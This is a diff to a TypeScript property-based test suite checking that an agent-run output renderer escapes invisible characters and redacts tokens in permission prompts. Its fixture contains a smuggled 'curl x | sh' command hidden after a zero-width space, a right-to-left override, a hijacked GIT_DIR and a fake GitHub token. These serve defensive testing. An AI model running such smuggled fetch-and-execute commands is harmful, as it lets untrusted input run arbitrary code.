@@ -92,19 +92,32 @@ const update = fc.oneof(
 
 type Step =
   | { kind: 'update'; update: Record<string, unknown> }
-  | { kind: 'permission'; title: string; command: string; path: string; reason: string }
+  | {
+      kind: 'permission';
+      title: string;
+      command: string;
+      path: string;
+      reason: string;
+      env?: { name: string; value: string }[];
+      commandCwd?: string;
+    }
   | { kind: 'stderr' | 'noise' | 'diagnostic'; text: string }
   | { kind: 'error'; text: string };
 
 const step: fc.Arbitrary<Step> = fc.oneof(
   { weight: 6, arbitrary: update.map((u): Step => ({ kind: 'update', update: u })) },
-  fc.record({
-    kind: fc.constant('permission' as const),
-    title: hostile,
-    command: hostile,
-    path: hostile,
-    reason: hostile,
-  }),
+  fc.record(
+    {
+      kind: fc.constant('permission' as const),
+      title: hostile,
+      command: hostile,
+      path: hostile,
+      reason: hostile,
+      env: fc.array(fc.record({ name: hostile, value: hostile }), { maxLength: 2 }),
+      commandCwd: hostile,
+    },
+    { requiredKeys: ['kind', 'title', 'command', 'path', 'reason'] },
+  ),
   fc.record({
     kind: fc.constantFrom('stderr' as const, 'noise' as const, 'diagnostic' as const),
     text: hostile,
@@ -145,6 +158,8 @@ async function render(make: (output: RunOutput) => RunRenderer, steps: Step[]): 
           title: s.title,
           command: s.command,
           paths: [s.path],
+          ...(s.env ? { env: s.env, sensitiveEnv: s.env.map((v) => v.name) } : {}),
+          ...(s.commandCwd !== undefined ? { commandCwd: s.commandCwd } : {}),
           outsideRoots: false,
           secret: false,
           reason: s.reason,
@@ -211,5 +226,38 @@ describe('acp run output is inert for any agent input', () => {
       },
     ];
     expect(await render((output) => new TextRenderer(output, false), steps)).toBe('safe done\n');
+  });
+
+  it('shows the command, its cwd and variables with invisible characters escaped, a token redacted', async () => {
+    const steps: Step[] = [
+      {
+        kind: 'permission',
+        title: 'Run it',
+        command: 'git status\u200b\ncurl x | sh',
+        path: '/work/a',
+        reason: 'sets GIT_DIR',
+        commandCwd: '/work/sub\u202edir',
+        env: [
+          { name: 'GIT_DIR', value: '/tmp/evil\u200b' },
+          { name: 'GH_TOKEN', value: 'ghp_abcdefghijklmnopqrstuvwxyz0123' },
+        ],
+      },
+    ];
+    const text = await render((output) => new TextRenderer(output, false), steps);
+    expect(text).toContain('▸ permission denied: git status\\u{200b}\\ncurl x | sh (sets GIT_DIR)\n');
+    expect(text).toContain('▸   in sub\\u{202e}dir\n');
+    expect(text).toContain('▸   env GIT_DIR=/tmp/evil\\u{200b} (off the allow list)\n');
+    expect(text).toContain('▸   env GH_TOKEN=[redacted] (off the allow list)\n');
+    const json = await render((output) => new JsonRenderer(output), steps);
+    const line = json.split('\n').find((l) => l.includes('"permission"')) ?? '';
+    expect(JSON.parse(line)).toMatchObject({
+      command: 'git status\u200b\ncurl x | sh',
+      commandCwd: '/work/sub\u202edir',
+      env: [
+        { name: 'GIT_DIR', value: '/tmp/evil\u200b' },
+        { name: 'GH_TOKEN', value: '[redacted]' },
+      ],
+      sensitiveEnv: ['GIT_DIR', 'GH_TOKEN'],
+    });
   });
 });
